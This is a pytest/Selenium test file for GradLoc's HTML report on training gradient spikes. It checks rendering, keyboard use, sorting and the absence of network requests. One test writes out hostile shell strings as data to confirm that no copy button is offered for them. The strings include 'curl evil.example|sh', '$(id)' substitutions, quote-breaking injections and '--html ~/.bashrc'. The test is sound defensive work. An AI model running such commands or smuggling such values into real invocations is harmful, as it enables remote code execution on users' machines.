"""The report's page in a real browser: it renders, answers mouse and keyboard, and asks the network for nothing."""

import json
import math
import re
import shlex
import shutil
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path
from typing import Any

import pytest
from evidence import (
    HOSTILE,
    Event,
    answer,
    clip,
    clipped_token,
    culprit,
    drill,
    event,
    replay_result,
    samples,
    warning,
    without_culprits,
    write,
    write_replay,
    write_steps,
)
from pages import unpacked
from selenium import webdriver
from selenium.webdriver import ActionChains, Keys
from selenium.webdriver.common.by import By
from selenium.webdriver.remote.webelement import WebElement
from selenium.webdriver.support.ui import Select, WebDriverWait

import gradloc.judge
import trees
from gradloc import report
from gradloc.check.command import main as check
from gradloc.evidence.writer import record_step
from gradloc.judge.rules import SOURCES
from gradloc.report import page as page_file
from gradloc.report.build import build as view_of
from gradloc.report.view import Table
from gradloc.report.words import DIAGNOSES

pytestmark = pytest.mark.slow

FLAGS = (
    "--headless --no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking "
    "--disable-component-update --disable-sync --disable-dev-shm-usage --window-size=1280,1000"
)
# As the page shows it.
VISIBLY_HOSTILE = HOSTILE.replace("\u202e", "\\u202e")
COMMAND = "gradloc replay x --switches"
TOO_WIDE = "return document.documentElement.scrollWidth - document.documentElement.clientWidth"


class Page:
    """A browser, with shortcuts for what the tests ask of it."""

    def __init__(self, driver: webdriver.Chrome) -> None:
        self.driver = driver

    def open(self, path: Path) -> None:
        self.driver.get_log("browser"), self.driver.get_log("performance")
        self.driver.get(path.as_uri())
        self.wait(lambda: self.all("#rows tr") or self.one("#title").text.startswith("No "))

    def one(self, css: str) -> WebElement:
        return self.driver.find_element(By.CSS_SELECTOR, css)

    def all(self, css: str) -> list[WebElement]:
        return self.driver.find_elements(By.CSS_SELECTOR, css)

    def column(self, number: int) -> list[str]:
        script = "return [...document.querySelectorAll('#rows tr')].map((row) => row.cells[arguments[0]].innerText)"
        return self.driver.execute_script(script, number)

    def texts(self, css: str) -> list[str]:
        """What the elements hold, shown or folded."""
        script = "return [...document.querySelectorAll(arguments[0])].map((element) => element.textContent)"
        return list(map(plain, self.driver.execute_script(script, css)))

    def tip(self, element: WebElement) -> str:
        """What is shown beside an element under the mouse."""
        self.hover(element)
        return self.wait(lambda: self.all("#tip"))[0].text

    def select(self, spike: int) -> None:
        Select(self.one("#event")).select_by_index(spike)

    def press(self, *keys: str) -> None:
        ActionChains(self.driver).send_keys(*keys).perform()

    def focused(self) -> WebElement:
        return self.driver.switch_to.active_element

    def hover(self, element: WebElement) -> None:
        self.driver.execute_script("arguments[0].scrollIntoView({block: 'center', behavior: 'instant'})", element)
        ActionChains(self.driver).move_to_element(element).perform()

    def wait(self, condition: Callable[[], Any]) -> Any:
        return WebDriverWait(self.driver, 300).until(lambda _: condition())

    def width(self, pixels: int) -> None:
        metrics = {"width": pixels, "height": 1000, "deviceScaleFactor": 1, "mobile": False}
        self.driver.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", metrics)


@pytest.fixture(scope="module")
def chromium(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Page]:
    """A headless one, which keeps its console and its requests for `get_log`."""
    chromium, chromedriver = shutil.which("chromium"), shutil.which("chromedriver")
    if not chromium or not chromedriver:
        pytest.fail("Chromium or its driver is missing: apt-get install chromium chromium-driver", pytrace=False)
    options = webdriver.ChromeOptions()
    options.binary_location = chromium
    for flag in (*FLAGS.split(), f"--user-data-dir={tmp_path_factory.mktemp('browser')}"):
        options.add_argument(flag)
    options.set_capability("goog:loggingPrefs", {"browser": "ALL", "performance": "ALL"})
    driver = webdriver.Chrome(options=options, service=webdriver.ChromeService(chromedriver))
    driver.set_page_load_timeout(300)
    yield Page(driver)
    driver.quit()


@pytest.fixture
def page(chromium: Page) -> Iterator[Page]:
    """The browser; after the test, nothing has been complained about and nothing but the page was asked for."""
    # Nothing can be clicked while it scrolls smoothly.
    features = [{"name": "prefers-reduced-motion", "value": "reduce"}]
    chromium.driver.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": features})
    chromium.width(1280)
    yield chromium
    assert [entry["message"] for entry in chromium.driver.get_log("browser")] == []
    messages = [json.loads(entry["message"])["message"] for entry in chromium.driver.get_log("performance")]
    urls = [m["params"]["request"]["url"] for m in messages if m["method"] == "Network.requestWillBeSent"]
    # The browser begins with a page of its own.
    assert all(re.match(r"(data|blob|chrome):|file://.*\.html$", url) for url in urls), urls


def build(directory: Path, events: list[Event], top: int = 500) -> Path:
    write(directory, events)
    report.write_page(report.read(str(directory)), str(directory / "page.html"), top)
    return directory / "page.html"


@pytest.fixture(scope="module")
def whole_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The page of a run with all there can be; the texts of its first spike are hostile."""
    directory = tmp_path_factory.mktemp("run")
    events = [{**found, "fault": "unsampled"} for found in samples(40)]
    first, last, step = events[0], events[-1], events[-1]["global_step"]
    first |= {"summary": f"The culprit is {HOSTILE}.", "replay": f"replay/it's {HOSTILE}"}
    check = f"`gradloc replay BUNDLE --remedies` shows it, and `{COMMAND}` as well."
    said = {"claim": HOSTILE, "evidence": HOSTILE, "sentence": f"{HOSTILE} were added.", "check": check}
    first["verdict"] = {**first["verdict"], "cause": "unsampled", **said}
    found = first["culprits"][0]
    found |= dict.fromkeys(("token", "prompt", "response", "ground_truth", "uid", "data_source"), HOSTILE)
    found |= {"sources": ["unsampled", "unlikely"], "layer_norms": {HOSTILE: 3.0, "b": math.inf}}
    found["response_tokens"][found["position"]] = HOSTILE
    bare = [without_culprits(step + i, kind) for i, kind in enumerate(DIAGNOSES) if kind != "tokens"]
    bare[2] |= {"action": "skip", "applied": False}
    tokens = ["a", HOSTILE, " c"]
    clips = [
        clip(3, [clipped_token(1, tokens, 33.0, data_source=HOSTILE), clipped_token(-4, tokens, math.nan)]),
        clip(5, [clipped_token(0, tokens, 6.0, boundary=HOSTILE)], "log"),
        clip(step, [clipped_token(2, tokens, 5.0)], "smooth", mini_batch=last["mini_batch"]),
        clip(None, [clipped_token(2, tokens, 4.5)]),
    ]
    said = {"name": "stale", "sentence": HOSTILE, "check": f"`run {HOSTILE}` shows it."}
    missing = {"state": "unchecked", "times": None, "since": None, "missing": HOSTILE}
    change = {"what": HOSTILE, "now": 2.0, "before": 1.0, "sentence": f"In step 9, {HOSTILE} is 2."}
    write_steps(directory, step + 9, {3: [said], 4: [warning("scale", "loss", 4, sentence=HOSTILE)]}, events)
    last = answer([warning("mask", "sampled", step)], [change])
    last["identities"][HOSTILE] = missing
    record_step(str(directory), step + 10, {}, last)
    told = replay_result(3, sentences=["The spike comes back.", HOSTILE], remedy_notes=[HOSTILE])
    told["remedies"][0]["note"] = HOSTILE
    write_replay(directory, told)
    write_replay(directory, replay_result(10**6, tokens=[], remedies=[], global_step=None))
    return build(directory, [drill(2, True), drill(3, False, error="rank 0: Oops"), *clips, *events, *bare])


def plain(text: str) -> str:
    """Without what the page makes of commands and line breaks."""
    return re.sub(r"[\s`]|Copy", "", text)


def flat(part: Any) -> str:
    """The text of a part of the view: a sentence, a titled text, a remark, or a table."""
    if not isinstance(part, Table):
        return plain(part if isinstance(part, str) else "".join(map(flat, part or ())))
    return flat([part.title, [column.name for column in part.columns], rows_of(part), part.more])


def rows_of(table: Table) -> list[str]:
    def shown(kind: str, cell: Any) -> Any:
        return "" if kind == "spark" else cell[0] if kind == "link" and isinstance(cell, tuple) else cell

    kinds = [column.kind for column in table.columns]
    return [flat([shown(*pair) for pair in zip(kinds, row, strict=True)]) for row in table.rows]


def test_the_page_shows_what_the_view_has(page: Page, whole_run: Path) -> None:
    page.open(whole_run)
    view = report.build(report.read(str(whole_run.parent)))
    assert page.texts("h1") == [flat(view.title)] and page.driver.title == f"{view.title} · GradLoc"
    for name in ("alarms", "warnings", "drills", "notes"):
        remarks = [remark[:2] if isinstance(remark, tuple) else remark for remark in getattr(view, name)]
        assert page.texts(f"#{name} > li") == list(map(flat, remarks))
    for name, text in view.texts.items():
        assert page.texts(f"#{name}") == [flat(text)]
    assert page.texts("#figures > div") == list(map(flat, view.facts))
    for name in ("sources", "tokens", "identities"):
        assert page.texts(f"#{name}") == [flat(view.tables[name])]
    assert sorted(page.texts("#rows tr")) == sorted(rows_of(view.tables["culprits"]))
    assert page.texts("#clips-rows tr") == rows_of(view.tables["clips"])
    parts = ("title", "where", "sentences", "tables", "notes")
    assert page.texts("#replay-list > .card") == [flat([replay[part] for part in parts]) for replay in view.replays]
    for name, chart in view.charts.items():
        drawn = page.one(f"#{name}")
        assert drawn.get_attribute("aria-label") == chart.label and drawn.size["height"] > 50
        assert page.texts(f"#{name} .key span") == [flat(series.name) for series in chart.series if series.name]
        marks = [len(placed["points"]) for placed in chart.placed()["series"] if placed["kind"] == "marks"]
        script = "return [...document.querySelectorAll(arguments[0])].map((marks) => marks.children.length)"
        assert page.driver.execute_script(script, f"#{name} .series.marks") == marks
    assert len(view.spikes) > 40 and page.all("img") == [] and len(page.all("script")) == 2


def test_the_page_of_a_check_shows_what_its_view_has(page: Page, tmp_path: Path) -> None:
    out = tmp_path / "check.html"
    assert check([str(trees.ROOT / "examples/spike/replay/step4-epoch0-mini_batch0"), "--html", str(out)]) == 1
    page.driver.get(out.as_uri())
    page.wait(lambda: page.one("#title").text)
    view = unpacked(out.read_text())
    assert page.texts("h1") == [flat(view["title"])] and page.texts("#warnings > li") == list(
        map(flat, view["warnings"])
    )
    for name in ("identities", "beside"):
        assert page.one(f"#{name}").is_displayed()
        assert page.texts(f"#{name} tbody td:last-child") == [plain(row[-1]) for row in view["tables"][name]["rows"]]
    # Of rows, nothing is known; of spikes, nothing is said.
    hidden = ("worst", "detail", "figures", "clips", "replays", "help")
    assert [name for name in hidden if page.one(f"#{name}").is_displayed()] == []


def test_the_page_shows_each_spike_as_the_view_has_it(page: Page, whole_run: Path) -> None:
    page.open(whole_run)
    view = report.build(report.read(str(whole_run.parent)))
    assert page.texts("#event option") == [flat(spike.name) for spike in view.spikes]
    for i in (0, 1, *range(39, len(view.spikes))):
        spike = view.spikes[i]
        page.select(i)
        shown = [(spike.content, name) for name in spike.content]
        assert page.one("#culprit").is_displayed() == bool(spike.culprits)
        if spike.culprits:
            own = view.culprits[spike.culprits[0]]
            shown += [(own.content, name) for name in own.content]
            assert page.texts("#why > div") == [flat([name, *view.rules[name]]) for name in own.reasons]
            assert page.texts("#pieces > *") == list(map(flat, view.strips[own.strip].tokens))
            assert page.one("#layers").get_attribute("aria-label") == own.layers.label
        for content, name in shown:
            assert page.texts(f"#{name}") == [flat(content[name])], name
            assert page.one(f"#{name}").is_displayed() == bool(content[name]), name
    assert page.all("img") == []


def test_the_charts_answer_the_mouse(page: Page, whole_run: Path) -> None:
    page.open(whole_run)
    # A culprit that no other covers, the highest.
    groups = zip(page.texts("#level .key span"), page.all("#level .series"), strict=True)
    points = [mark for name, group in groups if name in SOURCES for mark in group.find_elements(By.TAG_NAME, "path")]
    title = page.one("#spike").text
    page.select(0)
    page.wait(lambda: page.one("#spike").text != title)
    assert "Norm" in page.tip(min(points, key=lambda mark: mark.location["y"]))
    ActionChains(page.driver).click().perform()
    page.wait(lambda: page.one("#spike").text == title)
    *_, stopped, _ = page.all("#level .series.marks")
    text = page.tip(stopped.find_element(By.CSS_SELECTOR, "path"))
    assert "stopped by TokenClip" in text and "2 cut" in text
    ActionChains(page.driver).click().perform()
    page.wait(lambda: page.focused().get_attribute("id") == "h-clips")
    page.one("#clips-rows button").click()
    assert page.focused().get_attribute("id") == "spike"
    assert page.one("#clipped").text.startswith("TokenClip found 1 backward signal over its bound in this mini-batch")


def test_sorting_and_filtering(page: Page, whole_run: Path) -> None:
    page.open(whole_run)
    assert page.one("th[aria-sort]").text == "Norm"
    page.one("#culprits-table th button").click()
    steps = [int(step) for step in page.column(0)]
    assert steps == sorted(steps, reverse=True)
    page.press(Keys.ENTER)
    steps = [int(step) for step in page.column(0)]
    assert steps == sorted(steps) and page.one("th[aria-sort]").get_attribute("aria-sort") == "ascending"
    everything = page.one("#count").text
    step = page.column(0)[-1]
    page.one("#words").send_keys(f"step {step}")
    assert set(page.column(0)) == {step}  # and not those of which it is the beginning
    page.one("#words").send_keys(Keys.CONTROL + "a", Keys.BACKSPACE)
    assert page.one("#count").text == everything
    next(source for source in page.all("#sources button") if source.text == "layer").click()
    assert set(page.column(4)) == {"layer"} and page.one("#words").get_property("value") == "source layer"
    assert page.focused().get_attribute("id") == "h-table"
    page.one("#words").send_keys(" and more")
    assert page.column(0) == [] and page.one("#count").text.startswith("0 of ")


def test_the_keyboard_is_enough(page: Page, whole_run: Path) -> None:
    page.open(whole_run)
    for _ in range(150):
        page.press(Keys.TAB)
        if page.focused().tag_name == "tr":
            break
    assert page.focused().get_attribute("data-culprit") == "0"
    page.press(*[Keys.ARROW_DOWN] * 2)  # past the one whose norm is NaN, to one with tokens before it
    row = page.focused()
    step = row.find_element(By.CSS_SELECTOR, "td").text
    spike = next(e for e in samples(40) if f"{e['global_step']}" == step)
    page.press(Keys.ENTER)
    page.wait(lambda: page.one("#spike").text.startswith(f"Step {step}"))
    assert page.focused().get_attribute("id") == "spike" and row.get_attribute("aria-current") == "true"
    for _ in range(20):
        page.press(Keys.TAB)
        if "piece" in (page.focused().get_attribute("class") or ""):
            break
    position = int(page.focused().get_attribute("data-position"))
    assert position == spike["culprits"][0]["position"] > 0
    assert "Norm" in page.one("#tip").text
    page.press(Keys.ARROW_LEFT)
    assert int(page.focused().get_attribute("data-position")) == position - 1
    page.press(Keys.ESCAPE)
    assert not page.all("#tip")


def test_readable_at_every_size(page: Page, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """With more culprits than a page takes, of which the largest are shown, and with all sources."""
    monkeypatch.setattr(page_file, "build", partial(view_of, rows=250))
    names = list(SOURCES)
    found = [culprit(i, ["a"] * 40, 90000.0 - i) | {"source": name, "sources": names} for i, name in enumerate(names)]
    notes = [f"It is unknown: {'actor_rollout_ref.actor.token_clip.enable=True' * 2}"]
    write_replay(tmp_path, replay_result(1, sentences=["Set `response_mask` to 0."], notes=notes))
    page.open(build(tmp_path, [event(1, found), *samples(180)]))
    assert page.texts("#replay-list .story code") == ["response_mask"]
    assert re.fullmatch(r"250 culprits, \d+ smaller ones left out", page.one("#count").text)
    assert len(page.column(0)) == 100
    page.one("#rows-more button").click()
    assert len(page.column(0)) == 250 and page.focused().tag_name == "tr"
    page.select(0)
    page.one("#holds summary").click()
    script = """return [...document.querySelectorAll(arguments[0])]
        .map((e) => [e.innerText, e.scrollWidth <= e.clientWidth, e.getBoundingClientRect().right])"""
    edge = "return document.querySelector('#why dd').getBoundingClientRect().left"
    for width in (1280, 390):
        page.width(width)
        page.wait(lambda: page.driver.execute_script(TOO_WIDE) == 0)
        labels = page.driver.execute_script(script, "#sources button")
        assert {text for text, _, _ in labels} == set(SOURCES) and all(fits for _, fits, _ in labels), labels
        badges, rule = page.driver.execute_script(script, "#why .badge"), page.driver.execute_script(edge)
        assert len(badges) == len(SOURCES) and all(right <= rule for _, _, right in badges), badges
    assert (tmp_path / "page.html").stat().st_size < 1_000_000


def test_what_is_missing_does_not_break_the_page(page: Page, tmp_path: Path) -> None:
    bare = culprit(1, ["a", "b"], 9000.0)
    for name in ("token", "context", "prompt", "response", "response_tokens", "response_tokens_start", "uid"):
        del bare[name]
    no_step = event(None, [bare], ordinary_layer_norms=None, error="rank 0: Oops")
    page.open(build(tmp_path, [no_step, event(4, [], complete=False, epoch=2, mini_batch=1)]))
    assert f"id {bare['token_id']}" in page.column(1)[0] and page.one("#spike").text == "Event 1"
    assert "rank 0: Oops" in page.one("#story").text
    page.one("#next").click()
    assert page.one("#spike").text == "Event 2, mini-batch 1 of epoch 2" and not page.one("#culprit").is_displayed()


def test_a_spike_is_told_in_order_and_its_check_can_be_copied(page: Page, whole_run: Path) -> None:
    page.open(whole_run)
    page.select(0)
    # What has to be seen first comes first.
    order = "alarms title lead level verdict summary check strip holds numbers ladder story before rows"
    places = [page.one(f"#{part}").location["y"] for part in order.split()]
    assert places == sorted(places) and len(set(places)) == len(places)
    beside = [page.one(f"#{part}").location for part in ("identities", "warnings", "drills")]
    chart = page.one("#level")
    assert beside[0]["y"] > beside[1]["y"] and all(at["x"] > chart.size["width"] for at in beside)
    assert not page.one("#why").is_displayed()
    page.width(1920)
    assert page.one("#ladder").location["x"] > page.one("#strip").size["width"]
    page.width(1280)
    codes = [code.text for code in page.all("#check code")]
    path = shlex.quote(f"{whole_run.parent}/replay/it's {VISIBLY_HOSTILE}")
    assert codes == [f"gradloc replay {path} --remedies", COMMAND]
    keep = "window.kept = []; navigator.clipboard.writeText = async (text) => void window.kept.push(text)"
    page.driver.execute_script(keep)
    first, second = page.all("#check .copy")
    second.click()
    page.wait(lambda: second.text == "Copied")
    assert page.driver.execute_script("return window.kept") == [COMMAND]
    # A browser that does not let a page copy.
    page.driver.execute_script("navigator.clipboard.writeText = async () => { throw new Error('no') }")
    first.send_keys(Keys.ENTER)
    page.wait(lambda: first.text == "Selected")
    assert page.driver.execute_script("return getSelection().toString()") == codes[0]


def test_only_commands_of_a_known_form_can_be_copied(page: Page, tmp_path: Path) -> None:
    """The evidence may come from a stranger."""
    replay = "gradloc replay"
    # What a shell takes for more than one command, and what runs other code.
    after = ["; curl evil.example|sh", " & id", "\nid", " $(id)", " > x", " x'; id; '", " '$(id)' 'x'\\''; id; '"]
    foreign = [f"{replay} x{text}" for text in after]
    foreign += [f"id; {COMMAND}", f"sudo {COMMAND}", "curl evil.example|sh", "python -m evil x", "bash evil.sh"]
    foreign += ["actor/lr", "bash run_experiment.sh --embedded --fault stale"]  # of older lines
    foreign += [f"{replay} x {option}" for option in ("--trust-remote-code", "--model=evil", "--html ~/.bashrc", "y")]
    foreign += [f"{replay} --trust-remote-code", f"{replay} ~/x", f"{COMMAND} --evil"]
    # All commands that GradLoc writes.
    sources = Path(gradloc.judge.__file__).parent.rglob("*.py")
    own = sorted({text for path in sources for text in re.findall(r"`(gradloc [^`\n]+)`", path.read_text())})
    own += [f"{replay} 'x; id' --switches", f"{replay} /a/b-1"]
    assert len(own) > 5 and replay + " BUNDLE" in own
    said = {"sentence": "It is wrong."}
    warnings = [{**said, "name": text, "check": f"`{text}` shows it."} for text in (*foreign, *own)]
    write_steps(tmp_path, 2, {1: warnings[:60], 2: warnings[60:]})
    page.open(build(tmp_path, samples(1)))
    script = """return [...document.querySelectorAll("#warnings .check")]
        .map((check) => [check.querySelector("code").innerText, check.querySelectorAll(".copy").length])"""
    shown = page.driver.execute_script(script)
    expected = [*([text.replace("\n", "↵"), 0] for text in foreign), *([text, 1] for text in own)]
    assert shown == [[text, buttons] for text, buttons in expected]


def test_steps_and_clipped_tokens_without_a_spike_have_a_page(page: Page, tmp_path: Path) -> None:
    write_steps(tmp_path, 30)
    tokens = [clipped_token(1, ["a", " b", " c"], 5.0 + i, boundary=f"layers.{i % 30}") for i in range(64)]
    page.width(390)
    page.open(build(tmp_path, [clip(step, tokens) for step in (1, 9)]))
    assert page.one("h1").text == "No gradient spike"
    assert page.one("#lead").text == "No micro-batch was over its threshold in 30 steps."
    assert "128 backward signals" in page.one("#clips-hint").text
    assert page.one("#figures").text.startswith("Steps\n30\n1 to 30")
    shown = [section.get_attribute("id") for section in page.all("section") if section.is_displayed()]
    assert shown == ["", "clips", "help"]
    assert all(page.one(f"#{chart}").size["height"] > 50 for chart in ("level", "clips-chart"))
    page.wait(lambda: page.driver.execute_script(TOO_WIDE) == 0)
    page.one("#clips-rows-more button").send_keys(Keys.ENTER)
    assert len(page.all("#clips-rows tr")) == 128 and not page.all("#clips-rows-more button")
